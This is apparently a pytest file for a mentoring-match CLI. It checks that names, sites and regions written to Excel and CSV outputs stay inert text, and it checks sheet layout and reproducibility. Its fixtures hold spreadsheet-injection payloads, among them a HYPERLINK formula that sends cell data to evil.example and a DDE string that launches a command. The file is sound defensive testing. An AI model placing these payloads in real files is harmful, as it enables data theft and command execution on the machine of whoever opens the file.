"""Input text never becomes a live formula in the files a coordinator opens in a spreadsheet,
and roster.xlsx stays usable at any size (a sheet per coach when small, one "By coach" sheet
when large)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from matcher.cli import main
from matcher.io.workbook import csv_safe_text, sheet_title

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
NASTY = [HYPERLINK, DDE, "+1+cmd", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture
def nasty_program(program_dir) -> Path:
    coaches = [
        {"coach_id": "C1", "name": DDE, "capacity": "3"},
        {"coach_id": "C2", "name": HYPERLINK, "capacity": "3"},
    ]
    candidates = [
        {"candidate_id": f"K{i}", "name": text, "site": NASTY[-1 - i]}
        for i, text in enumerate(NASTY[:6])
    ]
    return program_dir(coaches=coaches, candidates=candidates)


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _text_values(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_roster_xlsx_writes_input_text_as_text(nasty_program: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    done = runner.invoke(main, ["assign", str(nasty_program), "--out", str(out), "--quiet"])
    assert done.exit_code == 0, done.output
    xlsx = out / "roster.xlsx"
    assert _formula_cells(xlsx) == []
    texts = _text_values(xlsx)
    for text in NASTY:  # names and sites, character for character (the loader strips the
        assert text.strip() in texts, text  # whitespace around a cell: tab and CR go there)
    assert DDE in texts and HYPERLINK in texts  # the coach names
    book = openpyxl.load_workbook(xlsx)
    assert not any(t.startswith(("=", "+", "-", "@")) for t in book.sheetnames)
    # numbers stay numbers: score and travel are numeric cells; the score's terms are text
    # that may start with a minus ("travel -0.74") and still is text, not a formula
    roster = book["Roster"]
    header = [c.value for c in roster[1]]
    rows = list(roster.iter_rows(min_row=2))
    scores = [r[header.index("score")] for r in rows if r[header.index("score")].value is not None]
    assert scores and all(c.data_type == "n" for c in scores)
    assert all(r[header.index("travel_km")].data_type == "n" for r in rows)
    terms = [r[header.index("score_terms")] for r in rows]
    assert any(c.value for c in terms) and all(c.data_type in ("s", "n") for c in terms)


def test_schedule_keeps_text_as_text_in_the_workbook_and_guards_the_csv(
    nasty_program: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    assert (
        runner.invoke(main, ["assign", str(nasty_program), "--out", str(out), "--quiet"]).exit_code
        == 0
    )
    done = runner.invoke(
        main,
        [
            "schedule",
            str(nasty_program),
            "--roster",
            str(out / "roster.csv"),
            "--out",
            str(out),
            "--quiet",
        ],
    )
    assert done.exit_code in (0, 4), done.output
    assert _formula_cells(out / "roster.xlsx") == []
    with (out / "schedule.csv").open(newline="", encoding="utf-8") as fh:
        locations = {row["location"] for row in csv.DictReader(fh)}
    assert locations, "no sessions were scheduled"
    assert not any(loc.startswith(("=", "+", "-", "@", "\t", "\r")) for loc in locations)
    assert "'" + DDE in locations and "'@SUM(A1)" in locations
    redacted = tmp_path / "redacted"
    runner.invoke(
        main, ["assign", str(nasty_program), "--out", str(redacted), "--quiet", "--redact"]
    )
    runner.invoke(
        main,
        [
            "schedule",
            str(nasty_program),
            "--roster",
            str(redacted / "roster.csv"),
            "--out",
            str(redacted),
            "--quiet",
            "--redact",
        ],
    )
    assert _formula_cells(redacted / "roster.xlsx") == []


def test_csv_guard_keeps_numbers_and_plain_text() -> None:
    assert csv_safe_text("-3.5") == "-3.5"  # a negative number is a number, not a formula
    assert csv_safe_text("+12") == "+12"
    assert csv_safe_text("Lincoln High") == "Lincoln High"
    assert csv_safe_text(DDE) == "'" + DDE
    assert csv_safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe_text(7) == 7


def test_sheet_titles_never_start_like_a_formula() -> None:
    taken: set[str] = set()
    assert sheet_title("=cmd|' /C calc'!A0", taken) == "_cmd|' _C calc'!A0"
    assert sheet_title("'quoted'", taken) == "quoted"
    assert sheet_title("Summary", taken) == "Summary"
    assert sheet_title("summary", taken) == "summary~2"
    assert len(sheet_title("x" * 40, taken)) == 31


def test_small_program_has_a_sheet_per_coach(nasty_program: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert (
        runner.invoke(main, ["assign", str(nasty_program), "--out", str(out), "--quiet"]).exit_code
        == 0
    )
    names = openpyxl.load_workbook(out / "roster.xlsx", read_only=True).sheetnames
    assert names[:4] == ["Summary", "Roster", "Why", "Coaches"]
    assert [n.split(" ")[0] for n in names[4:]] == ["C1", "C2"]
    assert "By coach" not in names


def test_large_program_has_one_by_coach_sheet(
    nasty_program: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("matcher.io.writers.BY_COACH_THRESHOLD", 1)  # 2 coaches count as many
    out = tmp_path / "out"
    assert (
        runner.invoke(main, ["assign", str(nasty_program), "--out", str(out), "--quiet"]).exit_code
        == 0
    )
    book = openpyxl.load_workbook(out / "roster.xlsx")
    assert book.sheetnames == ["Summary", "Roster", "Why", "Coaches", "By coach"]
    sheet = book["By coach"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("coach_id", "coach_name", "candidate_id", "candidate_name")
    coach_ids = [r[0] for r in rows[1:]]
    assert coach_ids == sorted(coach_ids) and set(coach_ids) == {"C1", "C2"}
    assert len(rows) == 1 + 6  # the header, then 6 candidates on 6 places: all assigned
    assert {r[1] for r in rows[1:]} == {DDE, HYPERLINK}
    assert _formula_cells(out / "roster.xlsx") == []


def test_by_coach_rows_are_banded_by_coach_and_the_workbook_is_deterministic(
    nasty_program: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("matcher.io.writers.BY_COACH_THRESHOLD", 1)
    books = []
    for name in ("a", "b"):
        out = tmp_path / name
        done = runner.invoke(main, ["assign", str(nasty_program), "--out", str(out), "--quiet"])
        assert done.exit_code == 0, done.output
        books.append(out / "roster.xlsx")
    sheet = openpyxl.load_workbook(books[0])["By coach"]
    shaded = {
        row[0].value: row[0].fill.fgColor.rgb == "FFEEF3FA" for row in sheet.iter_rows(min_row=2)
    }
    assert shaded == {"C1": False, "C2": True}  # every other coach shaded, all its rows alike
    # the summary holds the run's seconds, which differ: compare every other sheet's XML
    import zipfile

    parts = [zipfile.ZipFile(b) for b in books]
    names = [n for n in parts[0].namelist() if not n.endswith("sheet1.xml")]
    assert names == [n for n in parts[1].namelist() if not n.endswith("sheet1.xml")]
    assert all(parts[0].read(n) == parts[1].read(n) for n in names)


def test_capacity_csv_guards_the_region_text(program_dir, tmp_path: Path) -> None:
    folder = program_dir(
        coaches=[{"coach_id": "C1", "region": "North"}],
        candidates=[{"candidate_id": "K1", "region": "=cmd|' /C calc'!A0"}],
    )
    done = runner.invoke(main, ["capacity", str(folder), "--out", str(tmp_path / "cap")])
    assert done.exit_code == 0, done.output
    with (tmp_path / "cap" / "capacity.csv").open(newline="", encoding="utf-8") as fh:
        regions = [row["region"] for row in csv.DictReader(fh)]
    assert regions == ["'" + DDE]
